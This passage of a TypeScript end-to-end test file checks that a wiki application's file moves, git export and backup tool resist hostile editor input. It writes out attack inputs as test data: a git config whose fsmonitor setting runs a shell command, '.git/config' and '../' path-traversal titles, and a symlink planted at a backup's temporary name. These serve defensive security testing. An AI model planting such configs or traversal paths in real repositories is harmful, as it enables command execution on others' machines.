    const refused = await post(`/api/files/${slugPath(`File:${newTitle("Early")}.png`)}`, Buffer.concat([Buffer.from("MZ"), Buffer.alloc(300_000)]), { Authorization: `Bearer ${token}`, "Content-Type": "application/octet-stream" });
    probe(refused >= 400 && refused < 500, `a refused upload answered ${refused}`);
    const after = await post("/api/admin/import/mediawiki", small, auth);
    probe(after === 400, `a request after a refused upload: ${after === -1 ? "no answer in 15 s" : after}`);
  } finally {
    agent.destroy();
  }
});

test("a File: page's bytes stay under File: titles: it cannot move to .git/config or any other title", async () => {
  const { c } = await signedIn();
  const name = `File:${newTitle("Config")}.txt`;
  expect((await c.put(`/api/files/${slugPath(name)}`, { data: Buffer.from("[core]\n\tfsmonitor = \"touch /tmp/x\"\n") })).status()).toBe(201);
  for (const to of [".git/config", "Notes", "A/.git/config", "Filex:Config"]) {
    const res = await c.post(`/api/move/${slugPath(name)}`, { data: { to } });
    probe(res.status() === 400, `a File: page moved to ${to}: ${res.status()}`);
  }
  probe((await c.get(`/api/pages/${slugPath(name)}`)).status() === 200, "the File: page is where it was");
});

test("an editor's titles and files cannot make the operator's export or backup write outside their own files", async () => {
  test.skip(!process.env.E2E_DATABASE_URL, "needs the setup of npm test");
  test.setTimeout(120_000);
  const { execFileSync, spawnSync } = await import("node:child_process");
  const { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } = await import("node:fs");
  const { tmpdir } = await import("node:os");
  const path = await import("node:path");
  const { c } = await signedIn();
  const work = mkdtempSync(path.join(tmpdir(), "vellum-hostile-export-"));
  const marker = path.join(work, "command-ran");
  try {
    // what an editor can do over HTTP: hostile titles, a file named like a page, a move summary with the wiki's quotes
    const u = newTitle("H").slice(2).replace(/\W/g, "");
    const config = Buffer.from(`[core]\n\tfsmonitor = "touch ${marker}"\n`);
    expect((await c.put(`/api/files/${slugPath(`File:Cfg ${u}.txt`)}`, { data: config })).status()).toBe(201);
    for (const title of [`.git/config`, `X Clash ${u}`, `X Clash ${u}.md/Child`, `File:X Note ${u}`, `X Plain ${u}`, `X Plain ${u}.md`, `Q ${u}`]) {
      const res = await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: `text of ${title}`, baseRevisionId: null } });
      probe([200, 201].includes(res.status()), `${title}: ${res.status()}`);
    }
    expect((await c.put(`/api/files/${slugPath(`File:X Note ${u}.md`)}`, { data: Buffer.from("bytes, not a page") })).status()).toBe(201);
    expect((await c.post(`/api/move/${slugPath(`Q ${u}`)}`, { data: { to: `Q2 ${u}`, summary: `X Q” to “../Esc` } })).status()).toBe(200);
    const tool = (...args: string[]) =>
      spawnSync(process.execPath, ["scripts/transfer.mjs", ...args], { env: { ...process.env, DATABASE_URL: process.env.E2E_DATABASE_URL, MEMCACHE_SERVERS: "" }, encoding: "utf8", timeout: 100_000 });
    const dir = path.join(work, "export");
    const history = tool("export", dir, "--history");
    probe(history.status === 0, `export --history failed: ${history.stderr.slice(-400)}`);
    const gitConfig = readFileSync(path.join(dir, ".git/config"), "utf8");
    const again = tool("export", dir);
    probe(again.status === 0, `export into the repository failed: ${again.stderr.slice(-400)}`);
    probe(readFileSync(path.join(dir, ".git/config"), "utf8") === gitConfig, "the export wrote into .git");
    execFileSync("git", ["fsck", "--strict"], { cwd: dir, stdio: "ignore" });
    execFileSync("git", ["status", "--porcelain"], { cwd: dir });
    probe(!existsSync(marker), "a command ran through git's configuration");
    const tracked = execFileSync("git", ["ls-files", "-z"], { cwd: dir, encoding: "utf8" }).split("\0").filter(Boolean);
    probe(tracked.every((p) => !p.split("/").some((s) => s.startsWith(".") || s === "..")) && !tracked.some((p) => p.includes("Esc")), `paths: ${tracked.filter((p) => /^\.|\/\.|Esc/.test(p)).join(", ")}`);
    // a backup never writes through a link planted at its temporary name, nor keeps a leftover's mode
    const file = path.join(work, "wiki.vellum-backup.gz");
    const victim = path.join(work, "victim");
    writeFileSync(victim, "precious");
    symlinkSync(victim, `${file}.partial`);
    const backup = tool("backup", file);
    probe(backup.status === 0 && readFileSync(victim, "utf8") === "precious", `a backup wrote through a link: ${backup.stderr.slice(-300)}`);
    writeFileSync(`${file}.partial`, "left over");
    chmodSync(`${file}.partial`, 0o666);
    rmSync(file);
    probe(tool("backup", file).status === 0 && (statSync(file).mode & 0o777) === 0o600, `a backup's mode: ${(statSync(file).mode & 0o777).toString(8)}`);
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
});
